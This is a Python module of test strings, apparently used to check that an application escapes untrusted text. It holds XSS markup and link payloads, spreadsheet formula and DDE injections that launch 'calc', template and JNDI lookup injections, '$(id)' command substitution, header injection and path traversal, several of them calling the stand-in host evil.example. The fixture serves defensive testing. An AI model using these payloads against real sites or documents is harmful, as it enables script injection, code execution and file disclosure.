"""Words that some program takes for more than words."""

from typing import Final

PRODUCT: Final = "50337"
"""What a template would make of `7*7191`."""

LONG: Final = "=A" * 20_000
"""Longer than a cell of a spreadsheet program holds."""

LINKS: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "javascript&colon;alert(1)",
    "java\u017fcript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x.exe",
    "//evil.example/x",
    "/etc/passwd",
    "http:\\\\evil.example\\x",
    "http\u017f://evil.example/x",
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/' onmouseover='alert(1)",
    "https://evil.example/x\r\nSet-Cookie:_a=b",
    "https://evil.example/](javascript:alert(1))",
    "https://evil.example/\u202egpj.exe",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x&crumb=location:\\\\evil.example",
    "smb://evil.example/x",
    "blob:https://evil.example/x",
    "view-source:javascript:alert(1)",
    "doi:10.1000/182",
    "mailto:a@evil.example?subject=x",
    "https://example.org/plain",
)
"""Links, the last two of which may be followed."""

FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "\x85=1+1",
    "\u2028=1+1",
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
    " \uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\ufe62" + "1",
    "\ufe63" + "1",
    "\ufe6bSUM(1)",
    "so it was said;=1+1;",
    'so it was said";=1+1;"',
    "so it was said; @SUM(1+1)",
    "so it was said\t=1+1\t",
    "so it was said\n=cmd|' /C calc'!A0",
    "so it was said\r\n-2+3+cmd|' /C calc'!A0",
    'so it was said",=1+1,"',
)
"""Texts in which a spreadsheet program finds a formula."""

MARKUP: Final = (
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    '"><img src=http://evil.example/i.png onerror=alert(1)>',
    "' onmouseover='alert(1)' style='background:url(http://evil.example/i.png)",
    "</title></style></textarea></xmp></noscript><svg onload=alert(1)>",
    "<svg><image href='http://evil.example/i.png'/></svg>",
    "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">',
    "#fff;}</style><script>alert(1)</script>",
    "red;background:url(http://evil.example/i.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "<?xml-stylesheet href='http://evil.example/'?><!DOCTYPE x SYSTEM 'http://evil.example/'>",
    "<?php x ?><%= x %>",
    'x" /><Relationship Id="r" Target="http://evil.example/" TargetMode="External"/>',
    "</w:t><w:instrText>INCLUDEPICTURE http://evil.example/i.png</w:instrText>",
    "![x](http://evil.example/i.png) [y](javascript:alert(1)) <javascript:alert(1)> <http://evil.example/>",
    "[z]: javascript:alert(1)\n\n[z]",
    "```\n</code>\n# Title\n---\n> quote\n1. one\n| a | b |\n|---|---|",
    "{{ 7*7191 }}{% include '/etc/passwd' %}{% raw %}{# x #}{{ self.__class__ }}",
    "%1 %2 %n %s %(x)s {name} {0.__class__} {x!r} ${jndi:ldap://evil.example/a} $(id) `id` \\g<0>",
    "x\r\nContent-Type: text/html\r\n\r\n<b>",
    "T1\tallegation 0 1\tx\nR9\tdenies Arg1:T1 Arg2:T1\n#1\tAnnotatorNotes T1\tx",
    "a\x00b\x01\x07\x08\x0b\x0c\x1b[31m\x1c\x7f\x85\x9b\ufffe\uffff\ufdd0c",
    "d\u2028e\u2029f\u202egpj.exe\u2066g\u200fh",
    "\U000e0001\U000e0041\ufe0f\u0301\u0301\u0301",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "CON",
    "nul.txt",
)
"""Texts that try to leave the place where they stand."""

ALL: Final = (*MARKUP, *FORMULAS, *LINKS)
